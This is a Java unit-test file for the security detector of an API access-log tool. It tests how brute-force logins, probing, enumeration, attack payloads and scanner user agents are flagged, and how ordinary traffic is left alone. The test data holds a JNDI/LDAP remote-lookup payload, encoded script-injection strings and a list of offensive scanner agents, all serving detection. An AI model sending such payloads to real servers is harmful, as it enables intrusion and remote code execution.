package io.apilog.security;

import static io.apilog.security.Watched.HOME;
import static io.apilog.security.Watched.IMAGE;
import static io.apilog.security.Watched.LOGIN;
import static io.apilog.security.Watched.QUERY;
import static io.apilog.security.Watched.USER;
import static org.assertj.core.api.Assertions.assertThat;

import io.apilog.part.SourceNames;
import io.apilog.request.AccessRecord;
import io.apilog.request.Asking;
import io.apilog.request.Endpoint;
import io.apilog.request.HttpMethod;
import io.apilog.request.Request;
import io.apilog.request.Rule;
import io.apilog.request.Text;
import io.apilog.state.SectionReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Who should not be here is an event; who is only in a hurry, unlucky or many behind one address is none. */
class SecurityPartTest {
    private static final String GUESSER = "192.0.2.66";

    private final Watched log = new Watched();

    private static Asking refused(double second) {
        return Watched.from(GUESSER, second)
                .target("/login")
                .endpoint(LOGIN)
                .method(HttpMethod.POST)
                .answered(401);
    }

    private static Asking missing(String client, double second, String path) {
        return Watched.from(client, second)
                .target(path)
                .endpoint(Endpoint.UNMATCHED)
                .answered(404);
    }

    @Nested
    class BruteForce {
        @Test
        void five_refused_logins_in_a_row_are_one_event_and_so_are_five_hundred() {
            for (int i = 0; i < 4; i++) {
                log.see(refused(i));
            }
            assertThat(log.events()).isEmpty();
            for (int i = 4; i < 200; i++) {
                log.see(refused(i));
            }
            assertThat(log.events()).containsEntry("brute_force", 1);
        }

        @Test
        void one_that_goes_on_is_an_event_again_after_five_minutes() {
            for (int i = 0; i < 400; i++) {
                log.see(refused(i));
            }
            assertThat(log.events()).containsEntry("brute_force", 2);
        }

        @Test
        void names_that_are_tried_from_one_address_are_of_one_client() {
            for (int i = 0; i < 6; i++) {
                log.see(refused(i).user("name" + i));
            }
            assertThat(log.events()).containsEntry("brute_force", 1);
        }

        @Test
        void a_page_whose_token_has_expired_is_refused_at_many_endpoints_at_once_and_is_none() {
            for (int i = 0; i < 20; i++) {
                Endpoint endpoint = new Endpoint(10 + i, "/api/part" + i, io.apilog.request.Rule.PATH);
                log.see(Watched.from(GUESSER, 0.01 * i)
                        .target("/api/part" + i)
                        .endpoint(endpoint)
                        .answered(401));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void one_that_polls_where_it_was_let_in_before_is_none() {
            Asking polling =
                    Watched.from(GUESSER, 0).target("/graphql").endpoint(QUERY).method(HttpMethod.POST);
            log.see(polling);
            for (int i = 1; i < 600; i++) {
                log.see(polling.atSecond(Watched.NOW + 6 * i).answered(401));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void an_app_that_polls_once_a_second_with_a_token_that_expired_before_is_none() {
            Asking polling = Watched.from(GUESSER, 0).target("/me").endpoint(USER);
            for (int i = 0; i < 3_600; i++) {
                log.see(polling.atSecond(Watched.NOW + i).answered(401));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void who_is_refused_without_a_name_twenty_times_a_second_is_one() {
            Asking guessing = Watched.from(GUESSER, 0).target("/me").endpoint(USER);
            for (int i = 0; i < 100; i++) {
                log.see(guessing.atSecond(Watched.NOW + i * 0.05).answered(401));
            }
            assertThat(log.events()).containsEntry("brute_force", 1);
        }

        @Test
        void an_office_behind_one_address_mostly_gets_in_and_is_none() {
            for (int i = 0; i < 300; i++) {
                Asking asking = Watched.from(GUESSER, i)
                        .target("/api/session")
                        .endpoint(LOGIN)
                        .method(HttpMethod.PUT);
                log.see(asking.answered(i % 3 == 0 ? 401 : 200));
            }
            assertThat(log.events()).isEmpty();
        }

        /** Asked at an endpoint that lets nobody in without a name. */
        private Asking challenge(double second, String path, HttpMethod method) {
            return Watched.from(GUESSER, second)
                    .target(path)
                    .endpoint(QUERY)
                    .method(method)
                    .answered(401);
        }

        @Test
        void who_is_asked_for_a_name_each_time_and_gives_it_is_none() {
            for (HttpMethod method : List.of(HttpMethod.GET, HttpMethod.POST, HttpMethod.PUT)) {
                for (int i = 0; i < 60; i++) {
                    // A handshake of Windows is refused twice.
                    log.see(challenge(2 * i, "/graphql", method));
                    log.see(challenge(2 * i + 0.020, "/graphql", method));
                    log.see(challenge(2 * i + 0.050, "/graphql", method)
                            .user("alice")
                            .answered(200));
                }
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void who_is_asked_for_a_name_for_each_new_file_and_gives_it_is_none() {
            Endpoint file = new Endpoint(9, "/repository/{param}/{file}", io.apilog.request.Rule.LEARNED);
            for (int i = 0; i < 60; i++) {
                String path = "/repository/a/a-" + i + ".pom";
                log.see(challenge(0.5 * i, path, HttpMethod.PUT).endpoint(Endpoint.UNMATCHED));
                log.see(challenge(0.5 * i + 0.100, path, HttpMethod.PUT)
                        .endpoint(file)
                        .user("ci")
                        .answered(201));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void who_guesses_beside_somebody_who_is_let_in_elsewhere_is_one() {
            for (int i = 0; i < 60; i++) {
                log.see(challenge(2 * i, "/graphql", HttpMethod.POST));
                log.see(challenge(2 * i + 1, "/users/" + i, HttpMethod.POST)
                        .endpoint(USER)
                        .user("alice")
                        .answered(200));
            }
            assertThat(log.events()).containsEntry("brute_force", 1);
        }

        @Test
        void one_whose_token_has_expired_and_who_asked_for_many_things_at_once_is_none() {
            for (int hour = 0; hour < 5; hour++) {
                for (int i = 0; i < 12; i++) {
                    log.see(challenge(3_600 * hour + 0.030 * i, "/graphql", HttpMethod.POST));
                }
                for (int i = 0; i < 12; i++) {
                    log.see(challenge(3_600 * hour + 1 + 0.030 * i, "/graphql", HttpMethod.POST)
                            .answered(200));
                }
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void who_guesses_tokens_twenty_times_a_second_is_one() {
            for (int i = 0; i < 140; i++) {
                log.see(challenge(0.050 * i, "/graphql", HttpMethod.POST));
            }
            assertThat(log.events()).containsEntry("brute_force", 1);
        }

        @Test
        void one_who_is_known_and_may_not_write_is_none() {
            for (int i = 0; i < 100; i++) {
                log.see(challenge(3 * i, "/graphql", HttpMethod.POST)
                        .user("tenant")
                        .answered(403));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void addresses_of_one_network_of_ipv6_are_one_that_guesses() {
            for (int i = 0; i < 200; i++) {
                log.see(refused(i).client("2001:db8:5:7::" + Integer.toHexString(i + 1)));
            }
            assertThat(log.events()).containsEntry("brute_force", 1);
        }

        @Test
        void one_address_of_ipv6_is_told_of_once_and_a_network_that_mostly_gets_in_is_not() {
            for (int i = 0; i < 100; i++) {
                log.see(refused(i).client("2001:db8:5:7::1"));
                log.see(refused(i)
                        .client("2001:db8:5:8::" + i)
                        .answered(i % 3 == 0 ? 401 : 200)
                        .method(HttpMethod.PUT));
            }
            assertThat(log.events()).containsOnly(Map.entry("brute_force", 1));
        }

        @Test
        void pictures_that_other_sites_may_not_show_are_none() {
            for (int i = 0; i < 50; i++) {
                log.see(Watched.from(GUESSER, i)
                        .target("/image/" + i)
                        .endpoint(IMAGE)
                        .answered(403));
            }
            assertThat(log.events()).isEmpty();
        }
    }

    @Nested
    class LoginBurst {
        @Test
        void a_form_of_login_that_is_sent_again_and_again_is_one_whatever_is_answered() {
            for (int i = 0; i < 8; i++) {
                log.see(refused(i).answered(200));
            }
            assertThat(log.events()).containsOnly(Map.entry("login_burst", 1));
        }

        @Test
        void people_who_log_in_and_go_on_are_none() {
            for (int i = 0; i < 100; i++) {
                log.see(refused(2 * i).answered(302));
                for (int page = 0; page < 4; page++) {
                    log.see(Watched.from(GUESSER, 2 * i + 0.4 * page)
                            .target("/")
                            .endpoint(HOME));
                }
            }
            assertThat(log.events()).isEmpty();
        }

        private static final Endpoint TOKENS = new Endpoint(9, "/realms/shop/protocol/openid-connect/token", Rule.PATH);

        @Test
        void programs_that_fetch_tokens_and_are_given_them_are_none() {
            for (int i = 0; i < 300; i++) {
                log.see(Watched.from(GUESSER, i)
                        .target(TOKENS.name())
                        .endpoint(TOKENS)
                        .method(HttpMethod.POST)
                        .answered(i % 50 == 49 ? 503 : 200));
                log.see(Watched.from("192.0.2.67", i)
                        .target("/oauth2/token?grant_type=client_credentials")
                        .endpoint(Endpoint.OTHER)
                        .method(HttpMethod.POST));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void who_guesses_where_tokens_are_given_is_refused_and_found() {
            for (int i = 0; i < 8; i++) {
                log.see(Watched.from(GUESSER, i)
                        .target(TOKENS.name())
                        .endpoint(TOKENS)
                        .method(HttpMethod.POST)
                        .answered(i % 2 == 0 ? 400 : 401));
            }
            assertThat(log.events()).containsOnly(Map.entry("brute_force", 1));
        }

        @Test
        void a_fleet_behind_one_address_of_which_each_tenth_request_logs_in_is_none() {
            Random random = new Random(3);
            for (int i = 0; i < 200_000; i++) {
                boolean login = random.nextInt(10) == 0;
                log.see(Watched.from(GUESSER, 0.2 * i)
                        .target(login ? "/login" : "/")
                        .endpoint(login ? LOGIN : HOME)
                        .method(login ? HttpMethod.POST : HttpMethod.GET));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void who_looked_around_before_he_guessed_is_found() {
            for (int i = 0; i < 500; i++) {
                log.see(Watched.from(GUESSER, i).target("/").endpoint(HOME));
            }
            for (int i = 0; i < 20; i++) {
                log.see(refused(500 + i).answered(200));
            }
            assertThat(log.events()).containsOnly(Map.entry("login_burst", 1));
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "/j_spring_security_check",
                    "/ui/authentication",
                    "/auth/local",
                    "/api/auth/callback/credentials",
                    "/api/v1/auth/password"
                })
        void what_frameworks_call_a_login_is_one(String name) {
            for (int i = 0; i < 8; i++) {
                log.see(Watched.from(GUESSER, i)
                        .target(name)
                        .endpoint(new Endpoint(30, name, Rule.PATH))
                        .method(HttpMethod.POST));
            }
            assertThat(log.events()).containsEntry("login_burst", 1);
        }

        @ParameterizedTest
        @ValueSource(strings = {"/users/{id}/password", "/news/local", "/machines/{id}/credentials"})
        void what_is_called_so_elsewhere_is_none(String name) {
            for (int i = 0; i < 8; i++) {
                log.see(Watched.from(GUESSER, i)
                        .target(name)
                        .endpoint(new Endpoint(30, name, Rule.PATH))
                        .method(HttpMethod.POST));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void an_endpoint_can_be_configured_to_be_one_of_login() {
            SecuritySettings settings = new SecuritySettings(
                    5, 5, 10, 3, 50, 100, true, Duration.ofSeconds(10), List.of("/graphql"), false);
            Watched configured = new Watched(settings);
            for (int i = 0; i < 8; i++) {
                configured.see(Watched.from(GUESSER, i)
                        .target("/graphql")
                        .endpoint(QUERY)
                        .method(HttpMethod.POST));
            }
            assertThat(configured.events()).containsEntry("login_burst", 1);
        }
    }

    @Nested
    class Probing {
        @Test
        void ten_different_paths_that_nothing_is_behind_are_one() {
            for (int i = 0; i < 10; i++) {
                log.see(missing(GUESSER, 0.1 * i, "/admin" + i + ".php"));
            }
            assertThat(log.events()).containsOnly(Map.entry("probing", 1));
        }

        @ParameterizedTest
        @ValueSource(ints = {400, 401, 403, 405, 406, 410, 418, 421, 444, 451})
        void so_are_paths_that_the_server_refuses_otherwise(int status) {
            for (int i = 0; i < 10; i++) {
                log.see(missing(GUESSER, 0.1 * i, "/admin" + i + ".php").answered(status));
            }
            assertThat(log.events()).containsEntry("probing", 1);
        }

        @ParameterizedTest
        @ValueSource(ints = {429, 499, 500, 503})
        void one_who_is_slowed_down_or_not_answered_goes_on_being_one(int status) {
            for (int i = 0; i < 12; i++) {
                log.see(missing(GUESSER, 0.1 * i, "/admin" + i + ".php").answered(i < 4 ? 404 : status));
            }
            assertThat(log.events()).containsEntry("probing", 1);
        }

        @ParameterizedTest
        @ValueSource(ints = {422, 429, 499, 500, 503})
        void who_asks_a_server_that_was_never_up_is_none(int status) {
            for (int i = 0; i < 40; i++) {
                log.see(missing(GUESSER, 0.1 * i, "/orders/" + i).answered(status));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void one_path_that_is_asked_for_a_hundred_times_is_none() {
            for (int i = 0; i < 100; i++) {
                log.see(missing(GUESSER, 0.1 * i, "/feed?at=" + i));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void pictures_and_scripts_of_a_broken_page_are_none() {
            for (int i = 0; i < 100; i++) {
                log.see(missing(GUESSER, 0.1 * i, "/old/picture" + i + ".PNG?v=2"));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void a_visitor_of_a_site_with_broken_links_is_none() {
            for (int i = 0; i < 200; i++) {
                log.see(missing(GUESSER, i, "/old/" + i));
                log.see(Watched.from(GUESSER, i + 0.3).target("/").endpoint(HOME));
                log.see(Watched.from(GUESSER, i + 0.6).target("/").endpoint(HOME));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void a_crawler_that_says_so_may_miss_more() {
            for (int i = 0; i < 30; i++) {
                log.see(missing(GUESSER, i, "/old/" + i).agent("Mozilla/5.0 (compatible; Googlebot/2.1)"));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void lines_that_are_no_request_are_one_too() {
            for (int i = 0; i < 12; i++) {
                Asking asking =
                        Watched.from(GUESSER, 0).endpoint(Endpoint.MALFORMED).answered(400);
                byte[] rubbish = {3, (byte) i, 7};
                asking.request().record().malformed.set(rubbish, 0, rubbish.length);
                log.see(asking);
            }
            assertThat(log.events()).containsEntry("probing", 1);
        }
    }

    @Nested
    class Enumeration {
        private void learn(Endpoint endpoint, int objects) {
            learn(log, endpoint, objects);
        }

        private static void learn(Watched log, Endpoint endpoint, int objects) {
            for (int client = 0; client < 60; client++) {
                for (int object = 0; object < objects; object++) {
                    log.see(Watched.from("192.0.2." + client, 60 * (client % 7) + 0.1 * object)
                            .target("/x/" + client + "-" + object)
                            .endpoint(endpoint));
                }
            }
            for (int client = 0; client < 60; client++) {
                log.see(Watched.from("192.0.2." + client, 600).target("/").endpoint(HOME));
                log.see(Watched.from("192.0.2." + client, 660)
                        .target("/x/" + client)
                        .endpoint(endpoint));
            }
        }

        private void ask(Endpoint endpoint, int objects) {
            for (int object = 0; object < objects; object++) {
                log.see(Watched.from(GUESSER, 720 + 0.1 * object)
                        .target("/users/" + object)
                        .endpoint(endpoint));
            }
        }

        @Test
        void who_is_given_far_more_objects_than_others_is_one() {
            learn(USER, 2);
            ask(USER, 200);
            assertThat(log.events()).containsOnly(Map.entry("enumeration", 1));
        }

        @Test
        void nobody_is_one_who_asks_for_fewer_than_the_threshold_however_their_hashes_fall() {
            learn(USER, 2);
            for (int client = 0; client < 200; client++) {
                for (int object = 0; object < 49; object++) {
                    log.see(Watched.from("198.51.100." + client, 720 + 0.1 * object)
                            .target("/users/" + 1_000 * client + object)
                            .endpoint(USER));
                }
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void who_may_not_have_them_or_names_some_that_are_not_there_is_one_too() {
            for (int status : new int[] {403, 404, 410}) {
                Watched other = new Watched();
                learn(other, USER, 2);
                for (int object = 0; object < 200; object++) {
                    other.see(Watched.from(GUESSER, 720 + 0.1 * object)
                            .target("/users/" + object)
                            .endpoint(USER)
                            .answered(status));
                }
                assertThat(other.events()).as("%d", status).containsOnly(Map.entry("enumeration", 1));
            }
        }

        @Test
        void who_names_far_more_in_the_query_than_others_is_one() {
            for (int client = 0; client < 60; client++) {
                log.see(Watched.from("192.0.2." + client, 60 * (client % 7))
                        .target("/invoice?view=short&id=" + client)
                        .endpoint(QUERY));
                log.see(Watched.from("192.0.2." + client, 600).target("/").endpoint(HOME));
            }
            for (int object = 0; object < 200; object++) {
                log.see(Watched.from(GUESSER, 720 + 0.1 * object)
                        .target("/invoice?view=short&id=" + object)
                        .endpoint(QUERY));
                log.see(Watched.from("192.0.2.67", 720 + 0.1 * object)
                        .target("/invoice?page=" + object + "&sid=" + object)
                        .endpoint(QUERY));
            }
            assertThat(log.events()).containsOnly(Map.entry("enumeration", 1));
        }

        @Test
        void who_names_another_object_in_the_query_than_in_the_path_is_one() {
            for (int i = 0; i < 3; i++) {
                log.see(Watched.from(GUESSER, i)
                        .target("/users/17?fields=name&User_Id=" + (18 + i))
                        .endpoint(USER));
            }
            assertThat(log.events()).containsOnly(Map.entry("enumeration", 1));
        }

        @Test
        void who_names_the_same_object_twice_or_one_of_another_kind_is_none() {
            for (int i = 0; i < 20; i++) {
                log.see(Watched.from(GUESSER, i)
                        .target("/users/" + i + "?user_id=" + i)
                        .endpoint(USER));
                log.see(Watched.from(GUESSER, i)
                        .target("/users/17?order_id=" + i + "&id=" + i)
                        .endpoint(USER));
                log.see(Watched.from(GUESSER, i)
                        .target("/users/17?user_id=&user_id=me")
                        .endpoint(USER));
                log.see(Watched.from(GUESSER, i)
                        .target("/users/17?user_id=" + i)
                        .endpoint(USER)
                        .answered(403));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void many_people_behind_one_address_who_ask_for_other_things_besides_are_none() {
            learn(USER, 2);
            for (int object = 0; object < 100; object++) {
                log.see(Watched.from(GUESSER, 720 + 0.5 * object)
                        .target("/users/" + object)
                        .endpoint(USER));
                for (int page = 0; page < 3; page++) {
                    log.see(Watched.from(GUESSER, 720 + 0.5 * object)
                            .target("/")
                            .endpoint(HOME));
                }
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void where_everybody_is_given_many_nobody_is_one() {
            learn(IMAGE, 30);
            ask(IMAGE, 200);
            assertThat(log.events()).isEmpty();
        }

        @Test
        void as_long_as_it_is_not_known_what_is_usual_nobody_is_one() {
            ask(USER, 200);
            assertThat(log.events()).isEmpty();
        }

        @Test
        void a_crawler_that_says_so_is_none() {
            learn(USER, 2);
            for (int object = 0; object < 200; object++) {
                log.see(Watched.from(GUESSER, 720 + 0.1 * object)
                        .target("/users/" + object)
                        .endpoint(USER)
                        .agent("Mozilla/5.0 (compatible; Googlebot/2.1)"));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void what_was_learned_of_an_endpoint_goes_with_it() {
            learn(USER, 2);
            log.vacated(USER);
            ask(new Endpoint(USER.index(), "/orders/{id}", Rule.SHAPE), 200);
            assertThat(log.events()).isEmpty();
        }
    }

    @Nested
    class AttackPatterns {
        @Test
        void one_request_that_says_it_beyond_doubt_is_an_event() {
            log.see(Watched.from(GUESSER, 0)
                    .target("/?x=$%7Bjndi:ldap://192.0.2.9/a%7D")
                    .endpoint(HOME));
            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
        }

        @Test
        void three_different_ones_that_may_are_an_event_and_the_same_one_thrice_is_none() {
            for (int i = 0; i < 3; i++) {
                log.see(Watched.from(GUESSER, i).target("/?q=%3Cscript%3E").endpoint(HOME));
            }
            assertThat(log.events()).isEmpty();
            log.see(Watched.from(GUESSER, 4).target("/?q=%3Cscript%3E1").endpoint(HOME));
            log.see(Watched.from(GUESSER, 5).target("/?q=%3Cscript%3E2").endpoint(HOME));
            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
            assertThat(log.counts("apilog_attack_requests_total")).containsOnly(Map.entry("xss", 5));
        }

        @Test
        void three_different_ones_are_an_event_of_each_of_a_thousand_clients() {
            for (int client = 0; client < 1_000; client++) {
                for (int i = 0; i < 3; i++) {
                    log.see(Watched.from("198.51." + client / 250 + "." + client % 250, i)
                            .target("/?q=%3Cscript%3E" + client + "-" + i)
                            .endpoint(HOME));
                }
            }
            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1_000));
        }

        @Test
        void four_different_ones_that_come_slowly_are_an_event_of_each_of_a_thousand_clients() {
            for (int client = 0; client < 1_000; client++) {
                for (int i = 0; i < 4; i++) {
                    log.see(Watched.from("198.51." + client / 250 + "." + client % 250, 6 * i)
                            .target("/?q=%3Cscript%3E" + client + "-" + i)
                            .endpoint(HOME));
                }
            }
            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1_000));
        }

        @Test
        void functions_of_databases_count_only_where_they_are_refused_and_are_many() {
            for (int i = 0; i < 40; i++) {
                log.see(Watched.from(GUESSER, i)
                        .target("/?f=substring(Name," + i + ")")
                        .endpoint(HOME));
            }
            assertThat(log.events()).isEmpty();
            for (int i = 0; i < 40; i++) {
                log.see(Watched.from(GUESSER, 40 + 0.1 * i)
                        .target("/?f=md5(" + i + ")")
                        .endpoint(HOME)
                        .answered(500));
            }
            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
            assertThat(log.counts("apilog_attack_requests_total")).isEmpty();
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "katana - Open-source project for general web crawling",
                    "Mozilla/5.0 SF/2.10b",
                    "ZAP/2.15",
                    "x8/4.3",
                    "arjun/2.2",
                    "kiterunner/1.0"
                })
        void so_are_others_that_say_who_they_are(String agent) {
            log.see(Watched.from(GUESSER, 1).target("/").endpoint(HOME).agent(agent));
            assertThat(log.events()).containsOnly(Map.entry("scanner_agent", 1));
        }

        @ParameterizedTest
        @ValueSource(
                strings = {"Zapier", "MyBarjun/1.0", "linux8/4.3", "Mozilla/5.0 (X11) Gecko/20100101 Firefox/140.0"})
        void who_is_called_like_one_is_none(String agent) {
            log.see(Watched.from(GUESSER, 1).target("/").endpoint(HOME).agent(agent));
            assertThat(log.events()).isEmpty();
        }

        @Test
        void a_program_that_calls_itself_a_scanner_is_an_event_at_once() {
            log.see(Watched.from(GUESSER, 0)
                    .target("/")
                    .endpoint(HOME)
                    .agent("sqlmap/1.8#stable (https://sqlmap.org)"));
            assertThat(log.events()).containsOnly(Map.entry("scanner_agent", 1));
            assertThat(log.counts("apilog_attack_requests_total")).containsOnly(Map.entry("scanner", 1));
        }
    }

    @Nested
    class NewSource {
        private static final double DAY = 86_400;

        private void ask(String address, double begin, int requests) {
            for (int i = 0; i < requests; i++) {
                log.see(Watched.from(address, begin + i)
                        .target("/users/1")
                        .endpoint(USER)
                        .user("billing"));
            }
        }

        @Test
        void a_principal_of_one_network_for_a_day_that_comes_from_another_is_one() {
            ask("192.0.2.1", 0, 90);
            ask("192.0.2.77", DAY, 90);
            ask("203.0.113.5", DAY + 100, 50);
            assertThat(log.events()).containsOnly(Map.entry("new_source", 1));
        }

        @Test
        void one_that_comes_back_to_where_it_was_before_is_none() {
            for (int day = 0; day < 20; day += 4) {
                ask("192.0.2.1", day * DAY, 101);
                ask("192.0.2.1", (day + 1) * DAY + 200, 101);
                ask("203.0.113.5", (day + 2) * DAY, 101);
                ask("203.0.113.5", (day + 3) * DAY + 200, 101);
            }
            assertThat(log.events()).containsOnly(Map.entry("new_source", 1));
        }

        @Test
        void one_that_moves_about_is_none() {
            for (int i = 0; i < 1_000; i++) {
                ask(i % 2 == 0 ? "192.0.2.1" : "198.51.100." + i % 200, i * 3_600, 10);
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void one_that_is_given_another_address_every_few_days_is_one_the_first_time() {
            int[] days = {0, 4, 9, 13, 19, 24, 28};
            for (int i = 0; i < days.length - 1; i++) {
                ask("198.51." + i + ".7", days[i] * DAY, 101);
                ask("198.51." + i + ".7", (days[i + 1] - 1) * DAY, 101);
            }
            assertThat(log.events()).containsOnly(Map.entry("new_source", 1));
            ask("192.0.2.1", 28 * DAY, 101);
            ask("192.0.2.1", 58 * DAY, 101);
            ask("203.0.113.5", 58 * DAY + 200, 1);
            assertThat(log.events()).containsOnly(Map.entry("new_source", 2));
        }

        @Test
        void one_that_is_refused_from_elsewhere_is_none() {
            ask("192.0.2.1", 0, 90);
            ask("192.0.2.1", DAY, 90);
            for (int i = 0; i < 3; i++) {
                log.see(Watched.from("203.0.113.5", DAY + 100 + i)
                        .target("/users/1")
                        .endpoint(USER)
                        .user("billing")
                        .answered(403));
            }
            assertThat(log.events()).isEmpty();
        }
    }

    @Nested
    class Time {
        @Test
        void lines_out_of_order_make_no_event() {
            for (int i = 0; i < 400; i++) {
                log.see(refused(30 * i + (i % 2 == 0 ? 25 : 0)));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void a_clock_that_is_set_back_begins_anew_and_goes_on_finding() {
            for (int i = 0; i < 4; i++) {
                log.see(refused(100_000 + i));
            }
            log.see(refused(0));
            assertThat(log.events()).isEmpty();
            for (int i = 1; i < 12; i++) {
                log.see(refused(i));
            }
            assertThat(log.events()).containsEntry("brute_force", 1);
        }

        @Test
        void one_line_from_the_future_makes_no_later_one_an_event() {
            log.see(refused(1e9));
            for (int i = 0; i < 100; i++) {
                log.see(refused(20 * i));
            }
            assertThat(log.events()).isEmpty();
        }

        @Test
        void lines_without_a_time_are_judged_alone() {
            for (int i = 0; i < 100; i++) {
                log.see(refused(0).withoutTime());
                log.see(missing(GUESSER, 0, "/x" + i).withoutTime());
            }
            assertThat(log.events()).isEmpty();
            log.see(missing(GUESSER, 0, "/$%7Bjndi:ldap:x%7D").withoutTime());
            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
        }
    }

    @Nested
    class Shown {
        @Test
        void a_client_is_active_for_five_minutes_and_the_log_may_stand_still_meanwhile() {
            for (int i = 0; i < 10; i++) {
                log.see(missing(GUESSER, 0.1 * i, "/admin" + i));
            }
            assertThat(log.counts("apilog_security_active_sources")).containsOnly(Map.entry("probing", 1));
            log.nanos += 290_000_000_000L;
            assertThat(log.counts("apilog_security_active_sources")).containsOnly(Map.entry("probing", 1));
            log.nanos += 20_000_000_000L;
            assertThat(log.counts("apilog_security_active_sources")).isEmpty();
        }

        @Test
        void events_go_on_over_a_restart() throws Exception {
            for (int i = 0; i < 10; i++) {
                log.see(missing(GUESSER, 0.1 * i, "/admin" + i));
            }
            byte[] saved = log.part.write(log.part.copy());
            Watched next = new Watched();
            next.part.restore(next.part.read(1, new SectionReader(saved)), SourceNames.UNCHANGED);
            assertThat(next.events()).containsOnly(Map.entry("probing", 1));
        }

        @Test
        void offenders_are_pseudonyms_and_a_hundred_of_them() {
            for (int client = 0; client < 300; client++) {
                String address = "198.51." + client / 200 + "." + client % 200;
                for (int i = 0; i < 10; i++) {
                    log.see(missing(address, client + 0.01 * i, "/admin" + i));
                }
            }
            assertThat(log.part.offenders()).hasSize(100).allSatisfy(offender -> {
                assertThat(offender.pseudonym()).matches("client-[0-9a-f]{12}");
                assertThat(offender.found()).containsExactly(SecurityKind.PROBING);
            });
        }

        @Test
        void answers_to_nobody_count_where_there_was_always_a_principal() {
            Watched counting = new Watched(
                    new SecuritySettings(5, 5, 10, 3, 50, 100, true, Duration.ofSeconds(10), List.of(), true));
            for (int i = 0; i < 60; i++) {
                counting.see(Watched.from(GUESSER, i)
                        .target("/users/1")
                        .endpoint(USER)
                        .user("alice"));
                counting.see(Watched.from(GUESSER, i).target("/").endpoint(HOME));
            }
            counting.see(Watched.from(GUESSER, 61).target("/users/1").endpoint(USER));
            counting.see(
                    Watched.from(GUESSER, 62).target("/users/1").endpoint(USER).answered(401));
            assertThat(counting.counts("apilog_unauthenticated_success_total"))
                    .containsOnly(Map.entry("/users/{id}", 1));
        }

        private Map<String, Integer> answeredToNobody(int known, int nobody) {
            Watched counting = new Watched(
                    new SecuritySettings(5, 5, 10, 3, 50, 100, true, Duration.ofSeconds(10), List.of(), true));
            for (int i = 0; i < known; i++) {
                counting.see(Watched.from(GUESSER, i)
                        .target("/users/1")
                        .endpoint(USER)
                        .user("alice"));
            }
            for (int i = 0; i < nobody; i++) {
                counting.see(Watched.from(GUESSER, known + i).target("/users/1").endpoint(USER));
            }
            return counting.counts("apilog_unauthenticated_success_total");
        }

        @Test
        void the_day_on_which_a_login_is_gone_for_everybody_counts_to_its_end() {
            assertThat(answeredToNobody(875, 625)).containsOnly(Map.entry("/users/{id}", 625));
        }

        @Test
        void a_page_for_everybody_that_some_with_a_principal_saw_first_is_soon_none() {
            assertThat(answeredToNobody(60, 1_000)).containsOnly(Map.entry("/users/{id}", 3));
            assertThat(answeredToNobody(250, 10_000)).containsOnly(Map.entry("/users/{id}", 250));
        }
    }

    @Test
    void whatever_a_line_says_nothing_throws() {
        Random random = new Random(5);
        byte[] likely = "/%?&=+.user_id0123456789<>'\"${}\\;|u*!-".getBytes(StandardCharsets.US_ASCII);
        Endpoint[] endpoints = {HOME, USER, IMAGE, LOGIN, Endpoint.UNMATCHED, Endpoint.OTHER, Endpoint.MALFORMED};
        for (int i = 0; i < 50_000; i++) {
            Request request = Watched.from(GUESSER, 0).request();
            AccessRecord record = request.record();
            for (Text text : List.of(record.target, record.malformed, record.userAgent, record.referer, record.user)) {
                byte[] bytes = new byte[random.nextInt(60)];
                for (int at = 0; at < bytes.length; at++) {
                    bytes[at] =
                            random.nextInt(8) == 0 ? (byte) random.nextInt() : likely[random.nextInt(likely.length)];
                }
                int from = random.nextInt(bytes.length + 1);
                text.set(bytes, from, from + random.nextInt(bytes.length - from + 1));
            }
            record.status = random.nextInt(10) == 0 ? -1 : 100 + random.nextInt(900);
            record.timeMillis =
                    random.nextInt(10) == 0 ? random.nextLong() >>> random.nextInt(64) : 1_795_000_000_000L + i;
            request.named(endpoints[random.nextInt(endpoints.length)]);
            log.see(request);
        }
        assertThat(log.table.nowMillis(0)).isBetween(1_795_000_000_000L, 1_795_000_100_000L);
    }

    @Test
    void a_threshold_of_0_switches_a_kind_off() {
        Watched off =
                new Watched(new SecuritySettings(0, 0, 0, 0, 0, 0, false, Duration.ofSeconds(10), List.of(), false));
        for (int i = 0; i < 50; i++) {
            off.see(refused(i).agent("sqlmap/1.8"));
            off.see(missing(GUESSER, i, "/$%7Bjndi:ldap:" + i + "%7D"));
        }
        assertThat(off.events()).isEmpty();
    }
}
